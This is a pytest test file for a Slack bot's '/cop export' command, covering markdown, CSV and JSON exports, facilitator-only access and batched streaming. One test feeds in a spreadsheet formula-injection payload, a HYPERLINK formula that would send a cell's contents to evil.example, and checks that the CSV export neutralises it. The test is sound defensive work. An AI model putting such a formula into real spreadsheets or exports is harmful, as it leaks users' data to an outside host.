"""/cop export: the community's knowledge as a file in the caller's DMs."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from sqlalchemy import insert
from sqlalchemy.engine import Engine

from bot.export import ExportRow, write_json
from storage import db, knowledge
from storage.clock import utcnow
from storage.models import Snippet
from tests.harness import Copbot
from tests.storage.knowledge_helpers import add_snippet, make_community


def _export(copbot: Copbot, fmt: str) -> tuple[str, dict]:
    reply = copbot.cop(f"/cop export {fmt}")
    [upload] = [f for f in copbot.standin.files.values() if f["name"].endswith(f".{fmt}")]
    return reply.text, upload


@pytest.fixture
def guild(copbot: Copbot) -> Copbot:
    copbot.cop("/cop create Python Guild")
    # (#python would be a link to the #python channel, as Slack makes it, not a tag)
    copbot.cop("/cop share Use pytest fixtures #testing #packaging", user="UBOB")
    copbot.cop("/cop share Pin dependencies #packaging")
    copbot.cop("/cop share A tip with no tag")
    return copbot


def test_markdown_groups_knowledge_by_tag(guild: Copbot) -> None:
    reply, upload = _export(guild, "md")
    text = upload["content"].decode()
    assert "python-guild-knowledge.md" in reply and "(3 snippets)" in reply
    assert upload["channel"].startswith("D")  # sent privately
    sections = re.split(r"^## ", text, flags=re.MULTILINE)
    assert [s.split("\n", 1)[0] for s in sections[1:]] == ["#packaging", "#testing", "Untagged"]
    assert sections[1].count("### ") == 2 and "Use pytest fixtures" in sections[2]
    assert "by Bob Builder" in text


def test_the_preparing_line_becomes_the_answer(guild: Copbot) -> None:
    reply = guild.cop("/cop export md")
    preparing, done = reply.responses
    assert preparing["text"].startswith(":hourglass_flowing_sand: Preparing the md export")
    assert done["replace_original"] is True and done["response_type"] == "ephemeral"
    assert "Sent you `python-guild-knowledge.md` (3 snippets)" in done["text"]


def test_csv_and_json_hold_every_snippet(guild: Copbot) -> None:
    _, upload = _export(guild, "csv")
    assert upload["content"].startswith(b"\xef\xbb\xbf")  # says it is UTF-8, for Excel
    rows = list(csv.DictReader(io.StringIO(upload["content"].decode("utf-8-sig"))))
    assert sorted(r["tags"] for r in rows) == ["", "packaging", "packaging testing"]
    assert {r["channel"] for r in rows} == {"#python"}
    _, upload = _export(guild, "json")
    data = json.loads(upload["content"])
    assert {d["author"] for d in data} == {"Alice Liddell", "Bob Builder"} and len(data) == 3


def test_export_is_for_facilitators_in_a_known_format(guild: Copbot) -> None:
    assert "Only facilitators" in guild.cop("/cop export", user="UBOB")
    assert "Pick a format" in guild.cop("/cop export pdf")


def test_ten_thousand_snippets_export_in_batches(engine: Engine) -> None:
    community = make_community()
    now = utcnow()
    rows = [
        dict(
            team_id=community.team_id,
            community_id=community.id,
            channel_id="C1",
            message_ts=f"1.{i}",
            permalink="",
            author_id="UA",
            curator_id="UA",
            title=f"t{i}",
            text=f"snippet {i}",
            source="command",
            status="confirmed",
            is_private=False,
            endorsements=1,
            created_at=now,
        )
        for i in range(10_000)
    ]
    with engine.begin() as conn:
        conn.execute(insert(Snippet), rows)
    with db.session() as session:
        biggest = 0

        def rows_out():  # type: ignore[no-untyped-def]
            nonlocal biggest
            for snippet, tags in knowledge.iter_confirmed(
                session=session, community_id=community.id
            ):
                biggest = max(biggest, len(session.identity_map))
                yield ExportRow(
                    snippet.id or 0, snippet.title, snippet.text, "a", tags, 1, "C1", "", ""
                )

        out = io.StringIO()
        assert write_json(rows_out(), out) == 10_000
    assert len(json.loads(out.getvalue())) == 10_000
    assert biggest <= 501  # one batch of 500 (and the community) at a time


def test_snippets_stream_in_batches_of_the_size_asked(engine: Engine) -> None:
    community = make_community()
    for i in range(30):
        add_snippet(community, f"snippet {i}", tags=["t"])
    with db.session() as session:
        seen, biggest = 0, 0
        for _snippet, tags in knowledge.iter_confirmed(
            session=session, community_id=community.id, batch=7
        ):
            seen += 1
            biggest = max(biggest, len(session.identity_map))
            assert tags == ["t"]
    assert seen == 30 and biggest <= 7 + 1  # one batch (and the community) in memory at a time


def test_exports_show_what_was_typed_and_no_spreadsheet_formula_runs(copbot: Copbot) -> None:
    copbot.cop("/cop create Python Guild")
    copbot.cop('/cop share =HYPERLINK("http://evil.example/?x="&B3,"x") & 0 < n')
    copbot.cop("/cop share @SUM(A1) thanks @bob, see https://docs.example/a?b=1&c=2")
    copbot.cop("/cop share -1 is not +1")
    _, upload = _export(copbot, "csv")
    rows = list(csv.DictReader(io.StringIO(upload["content"].decode("utf-8-sig"))))
    texts = sorted(r["text"] for r in rows)
    assert texts == [
        "'-1 is not +1",
        '\'=HYPERLINK("http://evil.example/?x="&B3,"x") & 0 < n',
        "'@SUM(A1) thanks @Bob Builder, see https://docs.example/a?b=1&c=2",
    ]
    assert not any(t.startswith(("=", "+", "-", "@")) for r in rows for t in r.values())
    _, upload = _export(copbot, "md")
    markdown = upload["content"].decode()
    assert "> @SUM(A1) thanks @Bob Builder, see " in markdown
    assert "[https://docs.example/a?b=1&c=2](https://docs.example/a?b=1&c=2)" in markdown
    assert "&amp;" not in markdown and "&lt;" not in markdown and "<@U" not in markdown
    _, upload = _export(copbot, "json")
    assert "0 < n" in json.loads(upload["content"])[0]["text"]
